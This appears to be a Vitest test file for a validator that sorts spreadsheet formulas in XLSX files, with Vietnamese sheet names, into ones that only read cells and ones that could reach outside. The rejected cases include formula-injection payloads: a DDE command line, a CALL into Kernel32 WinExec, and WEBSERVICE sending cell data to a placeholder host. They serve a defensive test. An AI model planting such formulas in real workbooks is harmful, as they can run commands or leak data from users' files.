import { describe, expect, test } from 'vitest';
import { isHarmless } from '../../../functions/files/xlsx/patch/formula.ts';

const sheets = new Set(['danh sách', 'thôn', "nhà 'cũ'"]);

describe('a formula of a drop-down, a conditional format or a name', () => {
  test.each([
    '"Nam,Nữ"',
    'Thôn!$A$1:$A$9',
    "'Danh sách'!$A$1:$I$4,'Danh sách'!$1:$2",
    "'Nhà ''cũ'''!A1",
    'AND(LEN(TRIM($H4))<>9, LEN($H4)<>12)',
    'INDIRECT("T_"&$E4)',
    'COUNTIF($B$2:$B$900,B2)>1',
    '"=WEBSERVICE(""x"")"',
    '#REF!',
  ])('stays where it only looks at cells: %s', (formula) => {
    expect(isHarmless(formula, sheets)).toBe(true);
  });

  test.each([
    "cmd|'/c calc'!A1",
    '[1]Danh!$A$1',
    "'[khac.xlsx]Danh sách'!A1",
    "'C:\\khac\\[b.xlsx]A'!A1",
    'WEBSERVICE("http://example.invalid/"&A1)',
    'webservice ("x")',
    'HYPERLINK("x","y")',
    'CALL("Kernel32","WinExec","JCJ","x",0)',
    '_xll.ham(1)',
    'Khác!A1',
    'SUM(CALL("a","b","c"),1)',
  ])('goes where it could reach outside: %s', (formula) => {
    expect(isHarmless(formula, sheets)).toBe(false);
  });
});
